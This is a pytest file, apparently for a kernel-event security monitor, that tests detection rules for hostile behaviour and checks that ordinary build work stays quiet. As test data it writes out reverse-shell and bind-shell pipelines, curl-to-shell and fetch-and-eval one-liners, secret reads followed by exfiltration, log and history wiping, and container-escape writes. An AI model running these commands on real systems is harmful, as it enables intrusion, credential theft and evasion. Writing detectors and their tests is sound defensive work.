            ev.chmod(260, "app", 0o755), ev.exec(261, "/workspace/app", "./app", ppid=pid)]
    # tests: pytest writes caches, reads nothing secret, talks to a local database
    out += [ev.exec(270, "/usr/bin/python3.11", "python3", "-m", "pytest", "-q", ppid=pid),
            ev.open(270, "tests/__pycache__/test_x.cpython-311.pyc", kind="write", comm="python3"),
            ev.connect(270, "127.0.0.1", 5432, comm="python3"), ev.send(270, "127.0.0.1", 5432, 5000),
            ev.fork(270, 271), ev.exec(271, "/tmp/pytest-of-code/pytest-3/test_cli0/bin/tool", "tool", ppid=270),
            ev.exit(271, ppid=270), ev.exit(270, ppid=pid)]
    # git
    out += [ev.exec(280, "/usr/bin/git", "git", "init", ppid=pid),
            ev.open(280, ".git/config", kind="write", comm="git"), ev.open(280, ".git/HEAD", kind="write", comm="git"),
            ev.open(280, ".git/hooks/pre-push.sample", kind="write", comm="git"),
            ev.exec(281, "/usr/bin/git", "git", "commit", "-qm", "x", ppid=pid),
            ev.open(281, ".git/objects/ab/cdef", kind="write", comm="git"),
            ev.open(281, ".git/index.lock", kind="write", comm="git"),
            ev.rename(281, ".git/index.lock", ".git/index", comm="git"),
            ev.exec(282, "/usr/bin/git", "git", "push", ppid=pid), ev.fork(282, 283),
            ev.exec(283, "/usr/bin/ssh", "ssh", "git@github.com", ppid=282),
            ev.open(283, "/home/code/.ssh/id_ed25519", comm="ssh", ppid=282),
            ev.connect(283, "140.82.112.3", 22, comm="ssh", ppid=282),
            ev.send(283, "140.82.112.3", 22, 40_000, comm="ssh", ppid=282)]
    # pip install from a local wheel
    out += [ev.exec(290, "/usr/bin/python3.11", "python3", "-m", "pip", "install", "dist/pkg-1.0-py3-none-any.whl",
                    ppid=pid),
            *(ev.open(290, f"/home/code/.local/lib/python3.11/site-packages/pkg/m{i}.py", kind="write",
                      comm="python3") for i in range(5)),
            ev.open(290, "/home/code/.local/bin/pkg", kind="write", comm="python3"),
            ev.chmod(290, "/home/code/.local/bin/pkg", 0o755, comm="python3")]
    # ldd, tmux
    out += [ev.exec(295, "/bin/bash", "/bin/bash", "/usr/bin/ldd", "app", ppid=pid), ev.fork(295, 296),
            ev.exec(296, "/lib64/ld-linux-x86-64.so.2", "ld-linux-x86-64.so.2", "--verify", "app", ppid=295),
            ev.exec(297, "/usr/bin/tmux", "tmux", "new", "-d", ppid=pid),
            ev.connect(297, "/tmp/tmux-1000/default", 0, comm="tmux")]
    return out


def test_ordinary_build_work_fires_nothing(fire: Any, ev: Any) -> None:
    assert fire(*build_like_workload(ev)) == []


# ---- issue 13: behaviour over names ----------------------------------------------------------

def test_tool_reading_its_own_config_is_not_theft(fire: Any, ev: Any) -> None:
    own = ((ev.exec(10, "/usr/bin/node", "node", "/usr/bin/npm", "install", comm="npm"), "/home/code/.npmrc"),
           (ev.exec(11, "/usr/bin/pip3", "pip3", "install", "x"), "/home/code/.config/pip/pip.conf"),
           (ev.exec(12, "/usr/bin/git", "git", "credential-store", "get"), "/home/code/.git-credentials"),
           (ev.exec(13, "/usr/bin/gh", "gh", "pr", "list"), "/home/code/.config/gh/hosts.yml"),
           (ev.exec(14, "/usr/bin/docker", "docker", "pull", "x"), "/home/code/.docker/config.json"),
           (ev.exec(15, "/usr/bin/kubectl", "kubectl", "get", "pods"), "/home/code/.kube/config"),
           (ev.exec(16, "/usr/bin/curl", "curl", "-n", "https://x"), "/home/code/.netrc"))
    for exe, path in own:
        assert fire(exe, ev.open(exe.pid, path, comm=exe.comm)) == [], path
    # the same files read by anything else are
    assert fire(ev.exec(20, "/usr/bin/cat", "cat", ".npmrc"), ev.open(20, "/home/code/.npmrc")) == [
        "cloud_credential_read"]
    assert fire(ev.exec(21, "/usr/bin/curl", "curl", "-K", "x"), ev.open(21, "/home/code/.aws/credentials")) == [
        "cloud_credential_read"]
    assert fire(ev.exec(22, "/usr/bin/node", "node", "-e", "..."), ev.open(22, "/home/code/.npmrc")) == [
        "cloud_credential_read"]
    assert fire(ev.exec(23, "/usr/bin/python3", "python3", "steal.py"),
                ev.open(23, "/home/code/.git-credentials")) == ["cloud_credential_read"]


def test_process_viewers_and_memory_reads(fire: Any, ev: Any) -> None:
    assert fire(ev.exec(10, "/usr/bin/ps", "ps", "-e"), ev.open(10, "/proc/4242/environ", comm="ps")) == []
    assert fire(ev.exec(11, "/usr/bin/top", "top", "-b"), ev.open(11, "/proc/4242/environ", comm="top")) == []
    assert fire(ev.exec(12, "/usr/bin/python3", "python3", "dump.py"), ev.open(12, "/proc/4242/mem")) == [
        "other_process_memory_read"]
    assert fire(ev.exec(13, "/usr/bin/gdb", "gdb", "-p", "4242"), ev.open(13, "/proc/4242/mem")) == []
    assert fire(ev.open(14, "/proc/self/mem"), ev.open(14, "/proc/14/mem")) == []


def test_connect_attempts_count_whatever_the_errno(fire: Any, ev: Any) -> None:
    for errno in (0, 115, 111, 101, 1):
        got = fire(*shell(ev), ev.fork(200, 201, ppid=100), ev.fork(200, 202, ppid=100),
                   ev.open(201, "/home/code/.ssh/id_rsa", ppid=200, comm="cat"),
                   ev.connect(202, "203.0.113.7", 443, ppid=200, comm="curl", errno=errno))
        assert got == ["ssh_private_key_read", "exfil_secret_read_then_connect"], errno
    # bytes sent count even when no connect was seen (a socket inherited, sendto)
    got = fire(*shell(ev), ev.fork(200, 201, ppid=100), ev.open(201, "/home/code/.ssh/id_rsa", ppid=200),
               ev.send(201, "203.0.113.7", 53, 600, ppid=200))
    assert got == ["ssh_private_key_read", "exfil_secret_read_then_connect"]


def test_port_sweep_counts_distinct_ports_of_one_host(fire: Any, ev: Any) -> None:
    """nc -z over a port list: non-blocking connects (EINPROGRESS), one process per port; the
    refusals are never connect results. More than 8 ports of one host in 10 s is a sweep."""
    t0 = 60_000_000_000
    sweep = [ev.connect(300 + i, "198.18.0.9", port, comm="nc", errno=115, ts=t0 + i * 50_000_000)
             for i, port in enumerate((21, 22, 23, 25, 110, 139, 445, 3306, 5432))]
    assert fire(*sweep) == ["network_port_sweep"]
    assert fire(*sweep[:8]) == []
    # the same ports of nine hosts, one port of each; two ports of one host again and again;
    # loopback; nine ports of one host spread over more than the window
    assert fire(*(ev.connect(300 + i, f"198.18.0.{10 + i}", 443, errno=115, ts=t0 + i) for i in range(9))) == []
    assert fire(*(ev.connect(300 + i, "198.18.0.9", 443 if i % 2 else 80, ts=t0 + i) for i in range(30))) == []
    assert fire(*(ev.connect(300 + i, "127.0.0.1", 8000 + i, errno=111, ts=t0 + i) for i in range(20))) == []
    assert fire(*(ev.connect(300 + i, "198.18.0.9", 7000 + i, ts=t0 + i * 2_000_000_000) for i in range(9))) == []


def test_preload_of_a_downloaded_library(fire: Any, ev: Any) -> None:
    lib = "/home/code/project/.cache/libx.so"
    curl = [ev.exec(20, "/usr/bin/curl", "curl", "-sSfo", ".cache/libx.so", "http://203.0.113.5/lib.so"),
            ev.connect(20, "203.0.113.5", 80, errno=115, comm="curl"),
            ev.open(20, lib, kind="write", comm="curl")]
    preload = ev.exec(21, "/bin/true", "true", env=(f"LD_PRELOAD={lib}", "LD_LIBRARY_PATH=/opt/x"))
    assert fire(*curl, preload) == ["preload_of_downloaded_library"]
    # a library a compiler built, preloaded from /tmp; a download not preloaded; another library
    gcc = [ev.exec(30, "/usr/bin/gcc", "gcc", "-shared", "-o", "/tmp/d/libl.so", "l.c"),
           ev.open(30, "/tmp/d/libl.so", kind="write", comm="ld")]
    assert fire(*gcc, ev.exec(31, "/tmp/d/m", "m", env=("LD_PRELOAD=/tmp/d/libl.so",))) == []
    assert fire(*curl, ev.exec(21, "/bin/true", "true", env=("LD_LIBRARY_PATH=/home/code/project/.cache",))) == []
    assert fire(*curl, ev.exec(21, "/bin/true", "true", env=("LD_PRELOAD=/usr/lib/libjemalloc.so.2",))) == []


def test_memory_dump_of_another_process(fire: Any, ev: Any) -> None:
    attach = ev.priv(30, "ptrace", 16, 4242, "", comm="gdb")
    core = ev.write_summary(30, "/tmp/.core1", 600_000, comm="gdb")
    assert "other_process_memory_dumped" in fire(attach, core)
    # a debugger attached that writes little; a large write by another process; gdb on its child
    assert "other_process_memory_dumped" not in fire(attach, ev.write_summary(30, "/tmp/x", 4000, comm="gdb"))
    assert "other_process_memory_dumped" not in fire(attach, ev.write_summary(31, "/tmp/.core1", 600_000))
    assert "other_process_memory_dumped" not in fire(attach, ev.write_summary(30, "/dev/null", 600_000))


def test_file_times_set_in_the_past(fire: Any, ev: Any) -> None:
    assert fire(ev.utime(10, "/w/.cache/implant", 1577836800)) == ["file_timestamp_backdated"]
    assert fire(ev.utime(10, "/w/.cache/implant", 1577836800, comm="python3")) == ["file_timestamp_backdated"]
    # a time set to a recent moment; a directory time restored by tar or cp -p
    assert fire(ev.utime(10, "/w/build/stamp", 1796291000, backdated=False)) == []
    assert fire(ev.utime(11, "/w/x/src", 1556668800, comm="tar")) == []
    assert fire(ev.utime(12, "/w/y/d", 1556668800, comm="cp")) == []


def test_namespace_handles_of_another_process(fire: Any, ev: Any) -> None:
    nsenter = ev.exec(40, "/usr/bin/nsenter", "nsenter", "-t", "1", "-m", "-p", "sh")
    assert "other_process_namespace_open" in fire(nsenter, ev.open(40, "/proc/1/ns/mnt", errno=13))
    assert "other_process_namespace_open" in fire(ev.open(41, "/proc/1/ns/net", comm="python3"))
    assert fire(ev.open(42, "/proc/self/ns/net"), ev.open(42, "/proc/42/ns/pid")) == []
    assert fire(ev.open(43, "/proc/1/ns/net", comm="lsns")) == []


def test_dns_as_a_channel(fire: Any, ev: Any) -> None:
    t0 = 60_000_000_000
    burst = [ev.connect(10, "198.18.0.53", 53, ts=t0 + i * 100_000_000, comm="python3") for i in range(41)]
    assert fire(*burst) == ["exfil_dns_query_burst"]
    assert fire(*burst[:40]) == []
    assert fire(ev.exec(11, "/usr/bin/dig", "dig", "@198.18.0.53",
                        "QUtJQUlPU0ZPRE5ON0VYQU1QTEUKd0phbHJYVXRuRkVNSS9LN01ERU5H.x.example")) == [
        "exfil_dns_encoded_query"]
    assert fire(ev.exec(12, "/usr/bin/dig", "dig", "github.com", "+short")) == []


def test_relay_through_pipes_in_the_kernels_terms(fire: Any, ev: Any) -> None:
    """The pipe ends the kernel reports link sh and nc whatever their names and relation:
    nc (renamed) is no sibling of the shell here, and the fifo closes the loop."""
    pipe = [ev.exec(200, "/bin/bash", "bash", "-c", "x", ppid=100),
            ev.chan(200, "pipe", 3, "pipe", "read", 11, fd2=4, ppid=100, comm="bash"),
            ev.fork(200, 201, ppid=100), ev.fork(200, 202, ppid=100),
            ev.dup(201, 3, 0, ppid=200, fd_kind="fifo", chan_id=22, chan_end="read"),
            ev.dup(201, 4, 1, ppid=200, fd_kind="pipe", chan_id=11, chan_end="write"),
            ev.exec(201, "/tmp/.cache/updater", "updater", ppid=200),
            ev.connect(201, "198.18.0.2", 443, ppid=200, comm="updater", errno=115),
            ev.dup(202, 3, 0, ppid=200, fd_kind="pipe", chan_id=11, chan_end="read"),
            ev.dup(202, 5, 1, ppid=200, fd_kind="fifo", chan_id=22, chan_end="write")]
    assert fire(*pipe, ev.exec(202, "/bin/sh", "sh", "-i", ppid=200)) == [
        "shell_relayed_through_pipe_to_socket"]
    # the same shell run as sh -c: not a program read from stdin
    assert fire(*pipe, ev.exec(202, "/bin/sh", "sh", "-c", "make", ppid=200)) == []


def test_bind_shell_relayed_through_pipes_fires_at_the_accept(fire: Any, ev: Any) -> None:
    """node spawns sh behind two pipes, then listens: the shell is relayed once node accepts
    a connection from outside (not from loopback)."""
    from coi_sentinel.events import model as m
    spawn = [ev.exec(300, "/usr/bin/node", "node", "-e", "x", ppid=100),
             ev.chan(300, "pipe", 20, "pipe", "read", 11, fd2=21, comm="node", ppid=100),
             ev.chan(300, "pipe", 22, "pipe", "read", 12, fd2=23, comm="node", ppid=100),
             ev.fork(300, 301, ppid=100),
             ev.dup(301, 20, 0, ppid=300, comm="node", fd_kind="pipe", chan_id=11, chan_end="read"),
             ev.dup(301, 23, 1, ppid=300, comm="node", fd_kind="pipe", chan_id=12, chan_end="write"),
             ev.exec(301, "/bin/sh", "sh", ppid=300)]

    def accept(peer: str) -> m.AcceptEvent:
        return m.AcceptEvent(**ev.hdr(300, 100, "node", None, 1000), fd=24, listen_fd=19, family="inet",
                             daddr=peer, dport=40000, errno=0)
    assert fire(*spawn) == []
    assert fire(*spawn, accept("198.18.0.2")) == ["shell_relayed_through_pipe_to_socket"]
    assert fire(*spawn, accept("127.0.0.1")) == []


def test_relayed_and_piped_shells(fire: Any, ev: Any) -> None:
    # mkfifo f; cat f | sh -i 2>&1 | nc HOST 443 > f: sh and nc are siblings under bash -c
    pipeline = "cat /tmp/f | /bin/sh -i 2>&1 | nc 198.18.0.2 443 > /tmp/f"
    got = fire(ev.exec(200, "/bin/bash", "bash", "-c", pipeline, ppid=100),
               ev.fork(200, 201, ppid=100), ev.fork(200, 202, ppid=100), ev.fork(200, 203, ppid=100),
               ev.exec(201, "/usr/bin/cat", "cat", "/tmp/f", ppid=200),
               ev.exec(202, "/bin/sh", "/bin/sh", "-i", ppid=200),
               ev.exec(203, "/usr/bin/nc.openbsd", "nc", "198.18.0.2", "443", ppid=200),
               ev.connect(203, "198.18.0.2", 443, ppid=200, comm="nc", errno=115))
    assert got == ["shell_relayed_through_network_process"]
    # socat TCP:HOST:443 EXEC:'bash -li',pty: the shell is socat's child, the socket inherited
    got = fire(ev.exec(300, "/usr/bin/socat", "socat", "TCP:198.18.0.2:443", "EXEC:bash -li,pty", ppid=100),
               ev.connect(300, "198.18.0.2", 443, fd=5, comm="socat", errno=115),
               ev.fork(300, 301, ppid=100, comm="socat"),
               ev.exec(301, "/usr/bin/bash", "bash", "-li", ppid=300))
    assert got == ["shell_spawned_by_network_process"]
    # curl URL | sh
    got = fire(ev.exec(400, "/bin/bash", "bash", "-c", "curl -s http://198.18.0.2/x | sh", ppid=100),
               ev.fork(400, 401, ppid=100), ev.exec(401, "/bin/sh", "sh", ppid=400))
    assert got == ["download_piped_to_shell"]
    # nc -lvp 4444 -e /bin/sh: a bind shell
    got = fire(ev.exec(500, "/bin/bash", "bash", "-c", "ncat -lvp 4444 -e /bin/sh", ppid=100),
               ev.fork(500, 501, ppid=100), ev.exec(501, "/usr/bin/ncat", "ncat", "-lvp", "4444", "-e", "/bin/sh",
                                                    ppid=500),
               ev.fork(501, 502, ppid=500), ev.exec(502, "/bin/sh", "sh", ppid=501))
    assert got == ["bind_shell_listener"]
    # a long-lived shell of an agent whose commands fetch things is not a relay
    assert fire(ev.exec(600, "/usr/bin/node", "claude", comm="claude"), ev.fork(600, 601, comm="claude"),
                ev.exec(601, "/bin/bash", "bash", ppid=600), ev.fork(601, 602, ppid=600),
                ev.exec(602, "/usr/bin/git", "git", "fetch", ppid=601),
                ev.connect(602, "140.82.112.3", 443, ppid=601, comm="git")) == []


def test_persistence_and_escalation_tools(fire: Any, ev: Any) -> None:
    assert fire(ev.exec(10, "/usr/bin/crontab", "crontab", "/tmp/c")) == ["crontab_install"]
    assert fire(ev.exec(10, "/usr/bin/crontab", "crontab", "-")) == ["crontab_install"]
    assert fire(ev.exec(10, "/usr/bin/crontab", "crontab", "-l")) == []
    assert fire(ev.exec(11, "/usr/sbin/setcap", "setcap", "cap_setuid+ep", "/tmp/python3")) == [
        "file_capability_set"]
    assert fire(ev.exec(11, "/usr/sbin/setcap", "setcap", "-v", "cap_net_raw+ep", "/bin/ping")) == []
    assert fire(ev.exec(12, "/usr/sbin/insmod", "insmod", "/tmp/rootkit.ko", errno=0)) == [
        "kernel_module_load_attempt"]
    assert fire(ev.exec(12, "/usr/sbin/modprobe", "modprobe", "-n", "-v", "vfat")) == []
    assert fire(ev.open(13, "/sys/fs/cgroup/x/release_agent", kind="write", errno=13)) == [
        "container_escape_file_write"]
    assert fire(ev.open(13, "/proc/sys/kernel/core_pattern", kind="write", errno=13)) == [
        "container_escape_file_write"]
    assert fire(ev.connect(14, "/var/run/docker.sock", 0, comm="curl", errno=2)) == [
        "container_runtime_socket_connect"]


def test_covering_tracks(fire: Any, ev: Any) -> None:
    assert fire(ev.unlink(10, "/home/code/.bash_history")) == ["history_file_tampering"]
    assert fire(ev.open(10, "/home/code/.bash_history", kind="write")) == ["history_file_tampering"]
    assert fire(ev.open(11, "/var/log/auth.log", kind="write", errno=13)) == ["system_log_tampering"]
    assert fire(ev.exec(12, "/usr/bin/shred", "shred", "-u", "/var/log/syslog")) == ["system_log_tampering"]
    assert fire(ev.exec(13, "/bin/bash", "bash", "-i"),
                ev.open(13, "/home/code/.bash_history", kind="write")) == []


def test_truncate_with_no_open_is_a_destructive_write(fire: Any, ev: Any) -> None:
    wipe = 0o1001    # O_WRONLY|O_TRUNC: what truncate(2) is sent as (file.kind truncate)
    assert fire(ev.open(10, "/var/log/auth.log", kind="truncate", flags=wipe)) == ["system_log_tampering"]
    assert fire(ev.open(10, "/var/log/syslog", kind="truncate", flags=wipe, errno=13)) == [
        "system_log_tampering"]
    assert fire(ev.open(10, "/home/code/.bash_history", kind="truncate", flags=wipe)) == [
        "history_file_tampering"]
    assert fire(ev.open(10, "/var/log/app.log", kind="truncate", flags=wipe, comm="logrotate")) == []
    assert fire(ev.open(10, "/home/code/app/logs/app.log", kind="truncate", flags=wipe)) == []


def test_owner_changes_of_system_files(fire: Any, ev: Any) -> None:
    assert fire(ev.priv(10, "chown", 1000, 1000, "/etc/shadow")) == ["system_file_owner_changed"]
    assert fire(ev.priv(10, "chown", 65534, 2**32 - 1, "/etc/sudoers.d/agent", errno=1)) == [
        "system_file_owner_changed"]
    assert fire(ev.priv(10, "chown", 2**32 - 1, 1000, "/etc/ld.so.preload")) == ["system_file_owner_changed"]
    assert fire(ev.priv(10, "chown", 0, 42, "/etc/shadow", comm="dpkg")) == []
    assert fire(ev.priv(10, "chown", 1000, 1000, "/home/code/app/build/a.o")) == []
    assert fire(ev.priv(10, "chown", 0, 0, "/home/code/app/tool")) == []   # setuid_bit_set's, at its chmod


def test_links_made_to_secrets(fire: Any, ev: Any) -> None:
    assert fire(ev.link(10, "/etc/shadow", "/tmp/x")) == ["secret_file_linked"]
    assert fire(ev.link(10, "../../etc//shadow", "/home/code/x")) == ["secret_file_linked"]
    assert fire(ev.link(10, "/root/.ssh/id_rsa", "/tmp/notes.txt", symlink=False, errno=1)) == [
        "secret_file_linked"]
    assert fire(ev.link(10, "../.aws/credentials", "/home/code/cfg")) == ["secret_file_linked"]
    assert fire(ev.link(10, "/home/code/.ssh/id_rsa.pub", "/tmp/key.pub")) == []
    assert fire(ev.link(10, "libfoo.so.1", "/home/code/app/libfoo.so")) == []
    assert fire(ev.link(10, "/etc/hostname", "/tmp/h")) == []


def test_miners_by_arguments_and_by_name(fire: Any, ev: Any) -> None:
    assert fire(ev.exec(10, "/home/code/.cache/kswapd0", "kswapd0", "-o", "stratum+tcp://198.18.0.2:443")) == [
        "crypto_miner_exec"]
    assert fire(ev.exec(11, "/opt/xmrig", "xmrig", "--version")) == ["miner_name_exec"]


def test_history_scripts_and_implants(fire: Any, ev: Any) -> None:
    assert fire(ev.exec(10, "/usr/bin/grep", "grep", "pass", "/home/code/.bash_history"),
                ev.open(10, "/home/code/.bash_history", comm="grep")) == ["shell_history_read"]
    assert fire(ev.exec(11, "/bin/bash", "bash", "-i"), ev.open(11, "/home/code/.bash_history")) == []
    # curl -o /tmp/i.sh URL; bash /tmp/i.sh
    got = fire(ev.exec(20, "/usr/bin/curl", "curl", "-o", "/tmp/i.sh", "http://x"),
               ev.open(20, "/tmp/i.sh", kind="write", comm="curl"),
               ev.exec(21, "/bin/bash", "bash", "/tmp/i.sh"))
    assert got == ["downloaded_script_run"]
    # the same with the script named relatively, as it usually is (curl -o i.sh URL; bash i.sh:
    # the open's path is resolved against the cwd, the argument is not); main missed it
    for arg in ("i.sh", "./i.sh", "sub/../i.sh"):
        got = fire(ev.exec(23, "/usr/bin/curl", "curl", "-o", "i.sh", "http://x"),
                   ev.open(23, "/workspace/i.sh", kind="write", comm="curl"),
                   ev.exec(24, "/bin/bash", "bash", arg))
        assert got == ["downloaded_script_run"], arg
    assert fire(ev.exec(25, "/usr/bin/curl", "curl", "-o", "i.sh", "http://x"),
                ev.open(25, "/workspace/i.sh", kind="write", comm="curl"),
                ev.exec(26, "/bin/bash", "bash", "other.sh")) == []
    # a downloaded Makefile or awk program, the file of -f (make's recipes are shell commands)
    for argv in (("make", "-s", "-f", ".cache/mk"), ("make", "--file=.cache/mk"), ("make", "-f.cache/mk"),
                 ("gawk", "-f", "mk", "data.txt"), ("make", "--makefile", "mk", "all")):
        got = fire(ev.exec(27, "/usr/bin/curl", "curl", "-sSfo", ".cache/mk", "http://x"),
                   ev.open(27, "/workspace/.cache/mk", kind="write", comm="curl"),
                   ev.exec(28, f"/usr/bin/{argv[0]}", *argv))
        assert got == ["downloaded_script_run"], argv
    for argv in (("make", "mk"), ("make", "-C", "mk"), ("awk", "{print}", "mk"), ("make", "-f", "Makefile")):
        assert fire(ev.exec(27, "/usr/bin/curl", "curl", "-sSfo", ".cache/mk", "http://x"),
                    ev.open(27, "/workspace/.cache/mk", kind="write", comm="curl"),
                    ev.exec(28, f"/usr/bin/{argv[0]}", *argv)) == [], argv
    assert fire(ev.exec(22, "/usr/bin/python3", "python3", "-c",
                        "import urllib.request as u; exec(u.urlopen('http://x/p').read())")) == [
        "interpreter_runs_downloaded_code"]
    # base64 -d > f; chmod +x f; ./f
    got = fire(ev.exec(30, "/usr/bin/base64", "base64", "-d", "p.b64"),
               ev.open(30, "dec", kind="write", comm="base64"), ev.exec(31, "/work/dec", "./dec"))
    assert got == ["exec_downloaded_file"]
    # gawk's /inet shell: gawk connects, its coprocess runs sh -c
    got = fire(ev.exec(40, "/usr/bin/gawk", "gawk", "BEGIN {...}"),
               ev.connect(40, "198.18.0.2", 443, fd=3, comm="gawk", errno=115),
               ev.fork(40, 41, comm="gawk"), ev.exec(41, "/bin/sh", "sh", "-c", "id", ppid=40))
    assert got == ["shell_command_by_network_process"]
    # pip building a package while holding its index connection is not an implant
    assert fire(ev.exec(50, "/usr/bin/python3", "python3", "-m", "pip", "install", "x"),
                ev.connect(50, "151.101.0.223", 443, fd=3, comm="python3"),
                ev.fork(50, 51, comm="python3"), ev.exec(51, "/bin/sh", "sh", "-c", "gcc x.c", ppid=50)) == []


# ---- the held-out evaluation's behaviours (tests/bpf/test_detection_holdout.py) ---------------

def test_private_key_files_and_developer_tokens(fire: Any, ev: Any) -> None:
    assert fire(ev.open(10, "/home/code/.gnupg/private-keys-v1.d/0123ABCD.key", comm="tar")) == \
        ["private_key_file_read"]
    assert fire(ev.open(10, "/srv/app/tls/server.p12", comm="python3")) == ["private_key_file_read"]
    assert fire(ev.exec(11, "/usr/sbin/nginx", "nginx"), ev.open(11, "/etc/nginx/server.key")) == []
    assert fire(ev.open(12, "/home/code/.pgpass", comm="cat")) == ["cloud_credential_read"]
    assert fire(ev.open(12, "/home/code/.vault-token", comm="python3")) == ["cloud_credential_read"]
    assert fire(ev.exec(13, "/usr/bin/psql", "psql"), ev.open(13, "/home/code/.pgpass")) == []
    assert fire(ev.exec(14, "/root/.cargo/bin/cargo", "cargo", "publish"),
                ev.open(14, "/home/code/.cargo/credentials.toml")) == []


def test_memory_of_another_process_copied(fire: Any, ev: Any) -> None:
    assert fire(ev.priv(10, "process_vm_readv", 4242, 1, comm="python3")) == \
        ["other_process_memory_read_syscall"]
    assert fire(ev.priv(10, "process_vm_readv", 10, 1, comm="python3")) == []          # itself
    assert fire(ev.exec(11, "/usr/bin/strace", "strace", "-f", "ls"),
                ev.priv(11, "process_vm_readv", 12, 1)) == []                          # a tracer


def test_loader_and_python_start_up_hooks(fire: Any, ev: Any) -> None:
    assert fire(ev.open(10, "/etc/ld.so.preload", kind="write", errno=13, comm="sh")) == \
        ["persistence_loader_preload_write"]
    pth = "/home/code/.local/lib/python3.11/site-packages/zz_init.pth"
    assert fire(ev.exec(11, "/bin/sh", "sh", "-c", "echo x > ..."), ev.open(11, pth, kind="write")) == \
        ["persistence_python_startup_write"]
    assert fire(ev.exec(12, "/usr/bin/python3", "python3", "/tmp/v/bin/pip", "install", "x"),
                ev.open(12, "/tmp/v/lib/python3.11/site-packages/distutils-precedence.pth", kind="write")) == []
    assert fire(ev.open(13, "/home/code/.config/autostart/upd.desktop", kind="write", comm="sh")) == \
        ["persistence_service_unit_write"]
    assert fire(ev.open(14, "/home/code/.ssh/rc", kind="write", comm="sh")) == ["persistence_shell_rc_write"]
    assert fire(ev.open(15, "/home/code/.ssh/known_hosts", kind="write", comm="ssh")) == []


def test_setcap_by_its_system_call(fire: Any, ev: Any) -> None:
    # a renamed setcap: no command line to read, the setxattr of security.capability says it
    assert fire(ev.exec(10, "/work/.cache/sc", "sc", "cap_net_raw+ep", "t"),
                ev.priv(10, "set_file_cap", 0, 0, "/work/.cache/t")) == ["file_capability_set"]
    assert fire(ev.exec(11, "/usr/sbin/setcap", "setcap", "cap_net_raw+ep", "t"),
                ev.priv(11, "set_file_cap", 0, 0, "t")) == ["file_capability_set"]      # once


def test_kernel_thread_names_and_ring_buffer_clearing(fire: Any, ev: Any) -> None:
    assert fire(ev.exec(10, "/usr/bin/sleep", "[kworker/0:1]", "1")) == ["process_masquerades_as_kernel_thread"]
    assert fire(ev.exec(10, "/usr/bin/sleep", "sleep", "[1]")) == []
    assert fire(ev.exec(11, "/usr/bin/dmesg", "dmesg", "-C")) == ["system_log_tampering"]
    assert fire(ev.exec(11, "/usr/bin/dmesg", "dmesg", "-T")) == []


def test_refused_connections_in_a_burst(fire: Any, ev: Any) -> None:
    probes = [ev.connect(10, "203.0.113.5", port, errno=111) for port in range(20, 32)]
    assert fire(*probes) == ["network_port_sweep", "network_port_scan"]     # 12 ports of one host
    probes = [ev.connect(10, f"203.0.113.{i}", 22, errno=111) for i in range(20, 32)]
    assert fire(*probes) == ["network_port_scan"]                            # one port of 12 hosts
    assert fire(*(ev.connect(10, "127.0.0.1", 8000, errno=111) for _ in range(12))) == []
    assert fire(*(ev.connect(10, "203.0.113.5", 443, errno=115) for _ in range(12))) == []


def test_downloaded_code_through_filters_and_shell_strings(fire: Any, ev: Any) -> None:
    assert fire(ev.fork(100, 101),
                ev.exec(100, "/bin/bash", "bash", "-c", "curl -sSf http://203.0.113.5/r.gz | gzip -d | sh"),
                ev.exec(101, "/bin/sh", "sh", ppid=100)) == ["download_piped_to_shell"]
    assert fire(ev.exec(10, "/usr/bin/php", "php", "-r",
                        "system(file_get_contents(getenv('ATK').'/run.sh'));")) == \
        ["interpreter_runs_downloaded_code"]
    assert fire(ev.exec(11, "/usr/bin/perl", "perl", "-MHTTP::Tiny", "-e",
                        "eval HTTP::Tiny->new->get($u)->{content}")) == ["interpreter_runs_downloaded_code"]
    assert fire(ev.exec(12, "/usr/bin/python3", "python3", "-c",
                        "import urllib.request as u; u.urlopen(x).read(); import subprocess; "
                        "subprocess.run('echo done', shell=True)")) == []


def test_account_tools_write_the_account_files(fire: Any, ev: Any) -> None:
    for tool in ("useradd", "passwd", "chpasswd"):
        exe = ev.exec(30, f"/usr/sbin/{tool}", tool, "x")
        assert fire(exe, ev.open(30, "/etc/passwd", kind="write", comm=tool)) == [], tool
    # reading it is what every ls -l and id does
    assert fire(ev.exec(31, "/usr/bin/id", "id"), ev.open(31, "/etc/passwd", comm="id")) == []


def test_browser_credential_stores(fire: Any, ev: Any) -> None:
    """Saved logins and cookies read, or opened read-write as SQLite does, by another program;
    the browser itself and a file of the same name outside a profile stay quiet."""
    ff = "/home/code/.mozilla/firefox/ab12.default-release/logins.json"
    chrome = "/home/code/.config/google-chrome/Default/Login Data"
    assert fire(ev.exec(10, "/usr/bin/cp", "cp", ff, "/tmp/x"), ev.open(10, ff, comm="cp")) == [
        "browser_credential_read"]
    assert fire(ev.exec(11, "/usr/bin/python3", "python3", "-c", "x"),
                ev.open(11, chrome, kind="write", comm="python3")) == ["browser_credential_read"]
    assert fire(ev.exec(12, "/usr/lib/firefox/firefox", "firefox"), ev.open(12, ff, comm="firefox")) == []
    assert fire(ev.exec(13, "/usr/bin/cat", "cat", "logins.json"),
                ev.open(13, "/workspace/test/fixtures/logins.json", comm="cat")) == []


def test_service_account_token(fire: Any, ev: Any) -> None:
    token = "/var/run/secrets/kubernetes.io/serviceaccount/token"
    assert fire(ev.exec(10, "/usr/bin/cat", "cat", token), ev.open(10, token, comm="cat")) == [
        "cloud_credential_read"]
    assert fire(ev.exec(11, "/usr/bin/kubectl", "kubectl", "get", "pods"),
                ev.open(11, token, comm="kubectl")) == []


def test_download_piped_to_command_runner(fire: Any, ev: Any) -> None:
    """curl URL | awk '{system($0)}': awk runs the downloaded lines; awk that only prints,
    or a runner fed by a local file, is quiet."""
    got = fire(ev.exec(400, "/bin/bash", "bash", "-c", "curl -s http://198.18.0.2/x | awk '{system($0)}'",
                       ppid=100),
               ev.fork(400, 401, ppid=100), ev.exec(401, "/usr/bin/awk", "awk", "{system($0)}", ppid=400))
    assert got == ["download_piped_to_command_runner"]
    assert fire(ev.exec(410, "/bin/bash", "bash", "-c", "curl -s http://198.18.0.2/x | awk '{print $1}'",
                        ppid=100),
                ev.fork(410, 411, ppid=100), ev.exec(411, "/usr/bin/awk", "awk", "{print $1}", ppid=410)) == []
    assert fire(ev.exec(420, "/bin/bash", "bash", "-c", "cat list | xargs -I{} sh -c {}", ppid=100),
                ev.fork(420, 421, ppid=100),
                ev.exec(421, "/usr/bin/xargs", "xargs", "-I{}", "sh", "-c", "{}", ppid=420)) == []


def test_node_command_loop_and_fetch_eval(fire: Any, ev: Any) -> None:
    """node holding an outside connection runs sh -c (child_process.exec on what the socket
    sent); npm running a lifecycle script, and an agent running its commands, do not count."""
